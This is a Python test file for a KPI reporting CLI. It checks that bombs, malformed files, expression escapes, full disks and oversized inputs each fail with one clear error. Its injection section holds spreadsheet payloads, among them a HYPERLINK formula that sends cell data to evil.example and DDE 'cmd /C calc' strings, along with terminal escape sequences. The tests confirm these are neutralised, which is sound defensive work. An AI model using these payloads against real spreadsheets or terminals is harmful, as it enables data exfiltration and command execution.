"""The hostile-input corpus through the real CLI: one clear message, the right exit, no harm.

Every case of ``tests/corpus_cases.py`` is built in a temporary folder and run through
``kpi`` (Typer's CliRunner; some also in a child process, as a user would run it). Each must:

* exit with the expected status (2: the command cannot run; 1: validate found errors);
* say so in one ``kpi: error: ...`` message on stderr that names the file (and the line and
  column, or the cell, where known), with nothing on stdout and no traceback;
* finish within :data:`SECONDS` (alias, zip and entity bombs are refused, not expanded);
* leave every input byte-for-byte unchanged and leave no new file behind (no temporary
  file, no half report, nothing planted by YAML tags or expressions).

Then: atomic outputs when the disk fills midway, formula injection end to end, the limits.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import kpicli.cli  # noqa: F401 - registers every command
from kpicli import limits
from tests.corpus_cases import CASES, GOOD, KPIS, Case, data_csv, data_xlsx, wide_csv
from tests.helpers import invoke, write_csv, write_kpis

SECONDS = 20.0  # per case; most take well under a second
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(autouse=True)
def _clean_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(limits.ENV, raising=False)
    monkeypatch.delenv("KPI_DEBUG", raising=False)
    limits.reset()
    yield
    limits.reset()


def snapshot(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder`` (what must not change)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            out[str(p.relative_to(folder))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def shown(text: str, folder: Path) -> str:
    return text.replace(f"{folder}{os.sep}", "").replace(str(folder), "{dir}")


def expected(case: Case, folder: Path) -> tuple[str, str]:
    return (
        shown(case.message.replace("{dir}", str(folder)), folder),
        shown(case.names.replace("{dir}", str(folder)), folder),
    )


def check_outcome(case: Case, folder: Path, code: int, out: str, err: str) -> None:
    out, err = shown(out, folder), shown(err, folder)
    assert "Traceback" not in out + err, err
    assert "\x1b" not in out + err  # no escape sequence from the inputs reaches the terminal
    assert "(run with --debug for details)" not in err  # no error the code did not anticipate
    assert code == case.code, f"exit {code}, expected {case.code}\nstdout: {out}\nstderr: {err}"
    message, names = expected(case, folder)
    if case.code == 2:
        assert err.startswith("kpi: error: "), err
        assert err.count("kpi: error:") == 1, err
        assert out == "", out
        text = err
    else:  # validate: the findings are the output, `file:line:col: RULE error message`
        assert err == "", err
        text = out
        if re.match(r"[A-Z]\d{3} ", message):
            message = message.replace(" ", " error ", 1)
    # One line says what is wrong and where: the file, and its line:col or cell when known.
    assert any(message in line and names in line for line in text.splitlines()), (
        f"no line with {names!r} and {message!r} in:\n{text}"
    )


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_corpus_case(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = case.build(tmp_path)
    monkeypatch.chdir(folder)  # anything written relative to the working folder lands here
    before = snapshot(folder)
    start = time.monotonic()
    result = invoke(*case.argv(folder))
    elapsed = time.monotonic() - start
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    check_outcome(case, folder, result.exit_code, result.stdout, result.stderr)
    assert elapsed < SECONDS, f"{case.id} took {elapsed:.1f} s"
    assert snapshot(folder) == before  # inputs unchanged, no temporary or planted file


def _child_limits() -> None:
    """In the child: at most 4 GB of memory, so a bomb that got through fails instead of
    swapping the machine."""
    resource.setrlimit(resource.RLIMIT_AS, (4 * 1024**3, 4 * 1024**3))


def run_child(
    argv: list[str], cwd: Path, *, preexec=_child_limits, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in (limits.ENV, "FORCE_COLOR")}
    base["PYTHONPATH"] = str(ROOT) + os.pathsep + base.get("PYTHONPATH", "")
    return subprocess.run(
        [sys.executable, "-m", "kpicli", *argv],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=preexec,
        env={**base, **(env or {})},
    )


CHILD = [c for c in CASES if c.subprocess]


@pytest.mark.parametrize("case", CHILD, ids=[c.id for c in CHILD])
def test_corpus_case_in_a_real_process(case: Case, tmp_path: Path) -> None:
    """No traceback reaches a real terminal's stderr, and the process exits normally."""
    folder = case.build(tmp_path)
    before = snapshot(folder)
    start = time.monotonic()
    proc = run_child(case.argv(folder), folder)
    elapsed = time.monotonic() - start
    check_outcome(case, folder, proc.returncode, proc.stdout, proc.stderr)
    assert elapsed < SECONDS + 5  # interpreter start and imports on top
    assert snapshot(folder) == before


def test_the_corpus_covers_the_issue() -> None:
    ids = {c.id.removesuffix("-report").removesuffix("-validate") for c in CASES}
    wanted = {
        "yaml-empty",
        "yaml-tabs",
        "yaml-top-list",
        "yaml-top-scalar",
        "yaml-invalid-utf8",
        "yaml-binary",
        "yaml-alias-bomb",
        "yaml-deep-flow",
        "yaml-deep-block",
        "yaml-50mb",
        "xlsx-random-bytes",
        "xlsx-truncated",
        "xlsx-csv-renamed",
        "xlsx-zip-bomb",
        "xlsx-entity-bomb-sheet",
        "xlsx-entity-bomb-workbook",
        "csv-empty",
        "csv-header-only",
        "csv-binary",
        "csv-10000-columns",
        "wrong-sheet-name",
        "unknown-period",
        "output-equals-input",
        "output-missing-folder",
        "output-read-only-file",
        "expr-import",
        "expr-dunder-walk",
        "expr-lambda",
        "expr-listcomp",
        "expr-huge-power",
    }
    assert wanted <= ids, wanted - ids
    assert len({c.id for c in CASES}) == len(CASES)


def test_debug_shows_the_traceback(tmp_path: Path) -> None:
    folder = tmp_path
    write_kpis(folder, KPIS)
    (folder / "data.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    proc = run_child(["--debug", "report", "kpis.yaml", "--data", "data.xlsx"], folder)
    assert proc.returncode != 0
    assert "Traceback" in proc.stderr and "DataError" in proc.stderr


# ------------------------------------------------------------------------- atomic outputs


def _disk_fills_at(limit: int):
    """A child whose files cannot grow beyond ``limit`` bytes: writes fail midway (EFBIG)."""

    def pre() -> None:
        _child_limits()
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return pre


@pytest.mark.parametrize("name", ["review.xlsx", "review.json", "review.csv", "review.md"])
def test_disk_full_midway_keeps_the_old_report(tmp_path: Path, name: str) -> None:
    for n, content in GOOD.items():
        (tmp_path / n).write_bytes(content if isinstance(content, bytes) else content.encode())
    old = b"last month's report\n"
    (tmp_path / name).write_bytes(old)
    before = snapshot(tmp_path)
    proc = run_child(
        ["report", "kpis.yaml", "--data", "data.csv", "-o", name, "--history", "50", "--explain"],
        tmp_path,
        preexec=_disk_fills_at(256),
    )
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == (
        f"kpi: error: cannot write {name}: File too large; the existing file is unchanged\n"
    )
    assert snapshot(tmp_path) == before  # old report intact, no temporary file left


def test_writer_failing_midway_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The renderer raises after part of the output exists: no file, no temporary file."""
    for n, content in GOOD.items():
        (tmp_path / n).write_bytes(content if isinstance(content, bytes) else content.encode())
    monkeypatch.chdir(tmp_path)
    import kpicli.writers.xlsx as xlsx

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("writer crashed halfway")

    monkeypatch.setattr(xlsx, "_write_definitions", boom)
    result = invoke("report", "kpis.yaml", "--data", "data.csv", "-o", "new.xlsx")
    assert result.exit_code == 2
    assert result.stderr.startswith("kpi: error: unexpected RuntimeError: writer crashed halfway")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data.csv", "kpis.yaml"]


# ---------------------------------------------------------------------------- injection

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
    "\x1b[41mred\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x07 \x9b31m",
]


def _hostile_files(folder: Path) -> None:
    names = [json.dumps(t) for t in HOSTILE_TEXT]
    kpis = (
        "version: 1\ntitle: '=cmd|'' /C calc''!A0'\nperiod: month\nkpis:\n"
        f"  - id: revenue\n    name: {names[0]}\n    description: {names[1]}\n"
        f"    owner: {names[2]}\n    unit: count\n"
        "    measure: {column: revenue, aggregate: sum}\n    target: 100\n"
        f"  - id: visits\n    name: {names[3]}\n    owner: {names[4]}\n    unit: count\n"
        "    measure: {column: visits, aggregate: sum}\n    target: 1000\n"
        f'  - id: pipes\n    name: "[bold red]a|b[/bold red] | c"\n    owner: {names[5]}\n'
        f"    description: {names[6]}\n"
        "    unit: count\n    measure: {column: visits, aggregate: count}\n    target: 2\n"
        f"  - id: escapes\n    name: {names[6]}\n    owner: {names[6]}\n    unit: count\n"
        "    measure: {column: visits, aggregate: sum}\n    target: 2\n"
    )
    write_kpis(folder, kpis)
    rows = ["date,team,revenue,visits"]
    teams = ['"=1+2"', '"@A1"', '"+x"', '"-y"', '"|p|"', '"[red]r[/red]"', '"No\x1b[2Jrth"']
    for month in ("2026-01", "2026-02"):
        for i, team in enumerate(teams):
            rows.append(f"{month}-0{i + 1},{team},{10 * (i + 1)},{100 * (i + 1)}")
    write_csv(folder, "\n".join(rows) + "\n")


def test_user_text_never_becomes_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import load_workbook

    _hostile_files(tmp_path)
    monkeypatch.chdir(tmp_path)
    before = snapshot(tmp_path)
    code = invoke("report", "--data", "data.csv", "--by", "team", "-o", "r.csv")
    assert code.exit_code == 0, code.stderr
    code = invoke("report", "--data", "data.csv", "--by", "team", "-o", "r.xlsx")
    assert code.exit_code == 0, code.stderr
    code = invoke("report", "--data", "data.csv", "-o", "flat.xlsx")
    assert code.exit_code == 0, code.stderr

    # CSV: every cell that starts like a formula is quoted text ('=...), OWASP style.
    cells = [c for row in csv.reader(io.StringIO(Path("r.csv").read_text("utf-8"))) for c in row]
    assert cells and not any(
        c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells if not _number(c)
    )
    assert "'=1+2" in cells and "'@A1" in cells and f"'{HOSTILE_TEXT[0]}" in cells

    # xlsx: no cell anywhere holds a formula, and the hostile text survives as text.
    for name in ("r.xlsx", "flat.xlsx"):
        wb = load_workbook(name)
        texts = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}!{ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        joined = "\n".join(texts)
        assert "HYPERLINK" in joined and "@SUM" in joined
    assert {k: v for k, v in snapshot(tmp_path).items() if k in before} == before


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_markdown_escapes_pipes_and_terminal_shows_markup_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _hostile_files(tmp_path)
    monkeypatch.chdir(tmp_path)
    md = invoke("report", "--data", "data.csv", "--by", "team", "-f", "markdown")
    assert md.exit_code == 0, md.stderr
    # The table row (the Changes list above the table may name the KPI too).
    line = next(x for x in md.stdout.splitlines() if "a\\|b" in x and x.startswith("|"))
    assert "[bold red]a\\|b[/bold red] \\| c" in line
    header = next(x for x in md.stdout.splitlines() if x.startswith("| "))
    assert line.count("|") - line.count("\\|") == len(header.split("|")) - 1
    assert "\\|p\\|" in md.stdout
    term = invoke("report", "--data", "data.csv", "--by", "team", env={"FORCE_COLOR": "1"}
    )
    assert term.exit_code == 0, term.stderr
    assert "[bold red]a|b[/bold red]" in term.stdout  # shown, not applied
    assert "[red]r[/red]" in term.stdout
    # Escape sequences in user text are shown as symbols, never sent to the terminal: no
    # colour, hyperlink, screen clear or 8-bit CSI that rich did not write itself.
    for out in (term.stdout, md.stdout):
        for seq in ("\x1b[41m", "\x1b]8;;", "\x1b[2J", "\x07", "\x9b"):
            assert seq not in out, repr(seq)
        assert "␛[2J" in out
    plain = invoke("report", "--data", "data.csv", "--by", "team", "--no-color")
    assert plain.exit_code == 0 and "\x1b" not in plain.stdout
    show = invoke("show", "escapes", "--data", "data.csv", "--no-color")
    assert show.exit_code == 0 and "\x1b" not in show.stdout and "␛[41mred" in show.stdout


# ------------------------------------------------------------------------------ limits


def _good(folder: Path, data: bytes | None = None, name: str = "data.csv") -> None:
    write_kpis(folder, KPIS)
    (folder / name).write_bytes(data if data is not None else data_csv())


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        (
            "rows=3",
            "data.csv has 6 rows; the limit is 3; if the file is genuine, raise it with "
            "`kpi --limit rows=N ...` (or KPI_LIMITS=rows=N)",
        ),
        ("columns=3", "data.csv has 4 columns; the limit is 3"),
        ("file-size=100", f"data.csv is {len(data_csv())} bytes; the limit is 100 bytes"),
        (
            "kpi-file-size=100",
            f"kpis.yaml:1:1: E001 YAML syntax error: the file is "
            f"{len(KPIS)} bytes, too big for a KPI file; the limit is 100 bytes",
        ),
        ("yaml-depth=2", "E001 YAML syntax error: nesting deeper than 2 levels"),
        ("yaml-nodes=10", "more than 10 YAML nodes once aliases are expanded"),
    ],
)
def test_limits_by_flag_and_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str, message: str
) -> None:
    _good(tmp_path)
    monkeypatch.chdir(tmp_path)
    args = ["report", "--data", "data.csv"]
    by_flag = invoke("--limit", setting, *args)
    assert by_flag.exit_code == 2 and message in by_flag.stderr, by_flag.stderr
    monkeypatch.setenv(limits.ENV, setting)
    by_env = invoke(*args)
    assert by_env.exit_code == 2 and message in by_env.stderr, by_env.stderr
    # The flag wins over the variable; `none` switches a limit off.
    name = setting.split("=")[0]
    high = "1000" if name == "yaml-depth" else "none"  # depth has a ceiling, not an off
    off = invoke("--limit", f"{name}={high}", *args, "-f", "json")
    assert off.exit_code == 0, off.stderr
    monkeypatch.delenv(limits.ENV)
    assert invoke(*args, "-f", "json").exit_code == 0  # defaults again


def test_unzipped_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _good(tmp_path, data_xlsx(), "data.xlsx")
    monkeypatch.chdir(tmp_path)
    r = invoke("--limit", "unzipped-size=2KB", "report", "--data", "data.xlsx")
    assert r.exit_code == 2
    assert (
        r.stderr.startswith("kpi: error: data.xlsx unpacks to ") and "the limit is 2 KB" in r.stderr
    )
    assert invoke("report", "--data", "data.xlsx", "-f", "json").exit_code == 0


def test_wide_csv_reads_when_the_column_limit_is_raised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _good(tmp_path, wide_csv(columns=2_500, rows=5))
    monkeypatch.chdir(tmp_path)
    r = invoke("report", "--data", "data.csv")
    assert r.exit_code == 2 and "data.csv has 2,500 columns; the limit is 2,000" in r.stderr
    r = invoke("--limit", "columns=3000", "report", "--data", "data.csv")
    assert r.exit_code == 2 and "2,500 columns" not in r.stderr  # read; but no KPI columns
    assert "no values for any KPI" in r.stderr


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ("rows", "limit 'rows' needs a value, e.g. rows=20M"),
        (
            "rowz=5",
            "unknown limit 'rowz' (did you mean rows?); limits: "
            "kpi-file-size, yaml-depth, yaml-nodes, file-size, unzipped-size, rows, columns",
        ),
        ("rows=many", "limit rows: 'many' is not a number such as 5000 or 20M"),
        ("rows=5MB", "is not a number such as 5000 or 20M"),
        ("yaml-depth=5000", "limit yaml-depth can be at most 1,000"),
    ],
)
def test_bad_limit_settings(tmp_path: Path, setting: str, message: str) -> None:
    r = invoke("--limit", setting, "rules")
    assert r.exit_code == 2 and r.stderr.startswith("kpi: error: --limit: ") and message in r.stderr
    r = invoke("rules", env={limits.ENV: setting})
    assert r.exit_code == 2 and "KPI_LIMITS:" in r.stderr, r.stderr


def test_limit_values() -> None:
    got = limits.parse("rows=20M, columns=5k file-size=4GB unzipped-size=1.5gb kpi-file-size=none")
    assert (got.rows, got.columns, got.file_size) == (20_000_000, 5_000, 4 * 1024**3)
    assert got.unzipped_size == int(1.5 * 1024**3) and got.kpi_file_size is None
    assert [n for n, _, _ in limits.describe(limits.LIMITS)] == [
        "kpi-file-size",
        "yaml-depth",
        "yaml-nodes",
        "file-size",
        "unzipped-size",
        "rows",
        "columns",
    ]


def test_readme_documents_the_limits() -> None:
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    safety = text[text.index("## Safety") : text.index("## Development")]
    for name, value, _ in limits.describe(limits.LIMITS):
        assert f"| `{name}` | {value} |" in safety, name


def test_endless_standard_input_is_read_bounded(tmp_path: Path) -> None:
    """`kpi validate - < /dev/zero` stops at the KPI file size limit instead of eating memory."""
    with open("/dev/zero", "rb") as zero:
        proc = subprocess.run(
            [sys.executable, "-m", "kpicli", "validate", "-"],
            stdin=zero,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=tmp_path,
            preexec_fn=_child_limits,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.startswith(
        "<stdin>:1:1: E001 error YAML syntax error: the text is longer than 20 MB, too big for a "
        "KPI file; the limit is 20 MB"
    )
    assert "Traceback" not in proc.stderr
